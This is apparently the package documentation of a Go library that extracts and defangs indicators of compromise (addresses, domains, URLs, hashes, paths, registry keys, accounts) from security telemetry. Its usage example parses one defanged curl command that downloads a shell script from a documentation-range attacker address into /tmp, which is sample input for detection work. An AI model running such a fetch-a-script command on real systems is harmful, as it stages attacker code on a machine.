// Package ioc finds indicators of compromise in telemetry values: IPv4
// and IPv6 addresses, domains, URLs, MD5/SHA-1/SHA-256 hashes, file paths
// and names, registry keys and accounts. Defanged input (hxxp, [.], (.),
// {.}, [dot], [:], [://], [@]) is refanged first; Defang prints an
// indicator so no viewer turns it into a live link.
//
// Usage:
//
//	for _, i := range ioc.Extract(`curl hxxp://198.51.100.7/a.sh -o /tmp/a.sh`) {
//		fmt.Println(i.Type, i.Defanged, i.Tags)
//	}
//	// url hxxp://198[.]51[.]100[.]7/a.sh [documentation]
//	// ipv4 198[.]51[.]100[.]7 [documentation]
//	// file_path /tmp/a.sh []
//
// Decisions on the ambiguous cases:
//
//   - Addresses in special ranges are reported with a tag (private,
//     loopback, link-local, multicast, unspecified, reserved). TEST-NET-1/2/3
//     and 2001:db8::/32 are tagged documentation, not private: the lab uses
//     them for attacker addresses.
//   - A dotted quad glued to more dotted numbers (10.0.19041.1, 1.2.3.4.5)
//     or to a word (v1.2.3.4) is not an address; octets with leading zeros
//     are refused.
//   - A domain ends in an ICANN public suffix (suffixes.txt, from the Public
//     Suffix List) with at least one label before it, or in the reserved
//     .example TLD (tagged reserved). Names under internal TLDs such as
//     .local are accepted only as the domain of a user@domain account.
//     A mixed-case last label (System.Net, PowerShell.Security) is code,
//     not a TLD; a name followed by "(" is a method call.
//   - A name whose extension is a known file extension is a file name.
//     Some extensions are also TLDs (.zip, .mov, .sh, .py, .md, .app …):
//     such a name is a file name tagged also-domain (and defanged), unless
//     the value comes from a column named like a URL, domain, host, DNS or
//     FQDN column, where it is a domain. A name that also appears as the
//     last component of a path in the same value is always a file.
//     .com is not treated as a file extension.
//   - Hashes are hex runs of exactly 32, 40 or 64 digits not touching other
//     letters or digits; all-zero, one repeated digit and decimal-only runs
//     are refused.
//   - Paths: drive (C:\, C:/), UNC (\\host\share, whose host is reported
//     too), \\?\, \Device\, %VAR%\ and $env:VAR\ roots; Unix paths need two
//     components, one of three or more characters, so /c and /S/Q are
//     switches. Spaces: see path.go.
//   - Registry keys start at a hive (HKLM, HKEY_LOCAL_MACHINE,
//     \REGISTRY\MACHINE, PowerShell's HKLM:\ without the colon); the short,
//     long and kernel spellings of one key de-duplicate together.
//   - Accounts are DOMAIN\user (not when the "user" is a file name or the
//     token goes on into a path) and user@domain UPNs; URLs are taken first,
//     so https://user@host/ and https://host/@user are not accounts.
//
// suffixes.txt is generated from the Public Suffix List that Debian's
// publicsuffix package installs (go generate ./internal/finding/ioc); it
// keeps the ICANN section's TLDs and two-label suffixes, IDNs as xn--.
//
// De-duplication is case-insensitive for every type except Unix paths and
// the path part of URLs.
package ioc
